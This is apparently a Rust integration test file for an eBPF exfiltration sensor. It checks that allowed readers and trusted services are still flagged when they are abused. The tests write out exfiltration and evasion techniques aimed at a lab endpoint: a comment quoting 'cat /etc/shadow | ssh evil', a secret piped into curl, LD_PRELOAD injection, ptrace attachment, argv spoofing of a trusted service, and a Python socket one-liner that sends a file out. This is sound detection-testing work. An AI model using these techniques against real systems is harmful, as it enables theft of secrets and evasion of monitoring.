//! Allowance is narrow and trust is earned structurally: an allowed reader may open the secrets,
//! nothing more; a trusted service is its executable and its arguments position by position,
//! and becoming one does not wash away taint.

use std::{net::SocketAddr, path::Path, time::Duration};

use anyhow::Result;
use integration_tests::host_tools::{self, quoted};
use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
use serde_json::Value;

/// The alert of a process that sent to `dest`, whose executable's file name starts with `name`
/// (`python3` runs as `python3.11`).
fn expect_alert_by(sensor: &Sensor, name: &str, dest: SocketAddr) -> Result<Value> {
    let named = |exe: &str| Path::new(exe).file_name().is_some_and(|f| f.to_string_lossy().starts_with(name));
    let by = |line: &Value| {
        alert::is_exfiltration_to(dest)(line) && alert::process_executable(line).is_some_and(named)
    };
    sensor.expect(by, ALERT_TIMEOUT)
}

/// A sensor with the lab's secret and a config file holding `config`.
fn sensor_with_config(lab: &Lab, config: &str) -> Result<Sensor> {
    let path = lab.dir().join("vigie.toml");
    std::fs::write(&path, config)?;
    lab.sensor_with(&["--config".as_ref(), path.as_os_str()])
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_secret_piped_into_an_allowed_reader_taints_it() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let curl = which("curl")?;
    let sensor = lab.sensor_with(&["--allow-reader", curl.as_str()])?;
    let dest = lab.remote().tcp_v4();

    // `cat /etc/shadow | ssh evil 'cat > x'`, with curl as the allowed client.
    let url = host_tools::url(dest);
    host_tools::sh(&format!(
        "cat {} | curl -sS -o /dev/null --max-time 10 --data-binary @- {url}",
        quoted(lab.secret())
    ))?;

    let alert = expect_alert_by(&sensor, "curl", dest)?;
    assert_eq!(alert::via_kind(&alert), Some("pipe"), "{alert:#}");
    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "{alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn an_allowed_reader_started_with_a_loader_variable_is_not_allowed() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let allowed = lab.actor_exe().display().to_string();
    let sensor = lab.sensor_with(&["--allow-reader", allowed.as_str()])?;
    let dest = lab.remote().tcp_v4();

    // `cargo test` sets LD_LIBRARY_PATH for the tests: each run starts from an environment
    // without it, then sets one variable.
    let run = |variable: &str| {
        host_tools::sh(&format!(
            "exec env -u LD_LIBRARY_PATH {variable} {} --read {} --tcp {dest}",
            quoted(lab.actor_exe()),
            quoted(lab.secret())
        ))
    };
    for variable in ["LD_PRELOAD=libm.so.6", "LD_AUDIT=libm.so.6", "LD_LIBRARY_PATH=/nonexistent"] {
        let pid = run(variable)?;
        let alert = sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
        assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{variable}: {alert:#}");
    }
    // The same executable started plainly is allowed.
    let plain = run("VIGIE_TEST=plain")?;
    lab.assert_no_alert_for(&sensor, plain)
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn an_allowed_reader_under_ptrace_is_not_allowed() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let allowed = lab.actor_exe().display().to_string();
    let sensor = lab.sensor_with(&["--allow-reader", allowed.as_str()])?;
    let dest = lab.remote().tcp_v4();

    host_tools::sh(&format!(
        "strace -f -o /dev/null {} --read {} --tcp {dest} > /dev/null",
        quoted(lab.actor_exe()),
        quoted(lab.secret())
    ))?;

    let name = lab.actor_exe().file_name().unwrap_or_default().to_string_lossy().into_owned();
    let alert = expect_alert_by(&sensor, &name, dest)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn an_allowed_reader_a_tracer_attached_to_and_left_is_not_allowed() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let allowed = lab.actor_exe().display().to_string();
    let sensor = lab.sensor_with(&["--allow-reader", allowed.as_str()])?;
    let dest = lab.remote().tcp_v4();

    // The tracer could have written code into it; it detaches before the read.
    let reader = lab.actor().sleep(Duration::from_secs(2)).read(lab.secret()).tcp(dest).spawn()?;
    let attach = format!(
        "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         assert libc.ptrace(16, {pid}, 0, 0) == 0, ctypes.get_errno()\n\
         os.waitpid({pid}, 0)\n\
         assert libc.ptrace(17, {pid}, 0, 0) == 0, ctypes.get_errno()\n",
        pid = reader.pid
    );
    host_tools::run("python3", &["-c", &attach])?;
    let run = reader.finish()?;

    let alert = sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn a_look_alike_of_the_homeserver_is_not_trusted() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let config = lab.secret().display().to_string();
    let sensor = sensor_with_config(
        &lab,
        &format!(
            "[[services]]\nname = \"matrix-synapse\"\nargs = [\"-m\", \"synapse.app.homeserver\"]\n\
             configs = [\"{config}\"]\n"
        ),
    )?;
    let dest = lab.remote().tcp_v4();

    // Python runs the code given with -c; what follows is only its sys.argv.
    let code = format!(
        "import socket, sys; data = open(sys.argv[-1], 'rb').read(); \
         socket.create_connection(('{}', {})).sendall(data)",
        dest.ip(),
        dest.port()
    );
    let python = which("python3")?;
    host_tools::run(&python, &["-c", &code, "-m", "synapse.app.homeserver", "--config-path", &config])?;

    let alert = expect_alert_by(&sensor, "python3", dest)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    Ok(())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn becoming_a_trusted_service_keeps_the_taint_carried_in() -> Result<()> {
    let lab = Lab::new(actor_exe!())?;
    let dest = lab.remote().tcp_v4();
    let sensor = sensor_with_config(
        &lab,
        &format!(
            "[[services]]\nname = \"relay\"\nexecutables = [\"{}\"]\nargs = [\"--tcp\", \"{dest}\"]\n",
            lab.actor_exe().display()
        ),
    )?;

    // The shell reads the secret itself, then becomes the service.
    let pid = host_tools::sh(&format!(
        "read -r line < {}; exec {} --tcp {dest}",
        quoted(lab.secret()),
        quoted(lab.actor_exe())
    ))?;

    let alert = sensor.expect(alert::is_exfiltration_by(pid), ALERT_TIMEOUT)?;
    assert_eq!(alert::file_path(&alert), lab.secret().to_str(), "{alert:#}");
    Ok(())
}

/// The path of `program` on PATH.
fn which(program: &str) -> Result<String> {
    let found = std::process::Command::new("sh").args(["-c", &format!("command -v {program}")]).output()?;
    anyhow::ensure!(found.status.success(), "{program} is not installed");
    Ok(String::from_utf8_lossy(&found.stdout).trim().to_owned())
}

#[test]
#[ignore = "needs root and BPF: run with cargo xtask test"]
fn programs_a_trusted_service_starts_are_not_trusted() -> Result<()> {
    // The test process is a trusted service (`--service`, see `Lab::sensor`): each actor is
    // its child, trusted from the fork until its exec, which usually comes before the agent
    // has even read the fork. Trust names the program, so none of them is trusted.
    let lab = Lab::new(actor_exe!())?;
    let sensor = lab.sensor()?;
    let dest = lab.remote().tcp_v4();
    let running: Vec<_> =
        (0..20).map(|_| lab.actor().read(lab.secret()).tcp(dest).spawn()).collect::<Result<_>>()?;
    for actor in running {
        let run = actor.finish()?;
        sensor.expect(alert::is_exfiltration_by(run.pid), ALERT_TIMEOUT)?;
    }
    Ok(())
}
